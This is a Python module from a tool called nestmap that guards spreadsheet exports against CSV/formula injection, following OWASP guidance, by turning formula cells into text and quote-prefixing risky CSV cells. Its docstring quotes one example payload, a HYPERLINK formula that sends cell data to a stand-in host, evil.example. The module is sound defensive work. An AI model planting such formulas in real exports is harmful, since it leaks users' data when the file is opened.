"""User text in spreadsheets stays text (OWASP's CSV-injection guidance).

A service named ``=HYPERLINK("http://evil.example/?"&A1)`` must reach a spreadsheet as the
words its author typed, never as a formula that runs when a colleague opens the file:

- every XLSX writer calls ``text_not_formulas`` before saving: openpyxl stores a string that
  starts with ``=`` as a formula unless told otherwise; a string cell is shown as typed and
  loads back unchanged, so an exported dataset still loads to the same analyses;
- CSV downloads meant for spreadsheets (the dashboard's table downloads) go through
  ``spreadsheet_csv_cell``: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
  return is prefixed with a single quote, as OWASP describes. CSVs meant for machines
  (``nestmap export``, ``--format csv``, the dataset zip) stay byte-exact: a quote there would
  change the data.
"""

from __future__ import annotations

from typing import Any

# What a spreadsheet may read as the start of a formula (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_not_formulas(book: Any) -> Any:
    """Make every formula cell of an openpyxl workbook a plain text cell; the workbook.

    nestmap never writes formulas on purpose, so any formula cell is user text that openpyxl
    took for one."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    return book


def spreadsheet_csv_cell(value: Any) -> Any:
    """A CSV cell a spreadsheet will not run: text starting like a formula gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
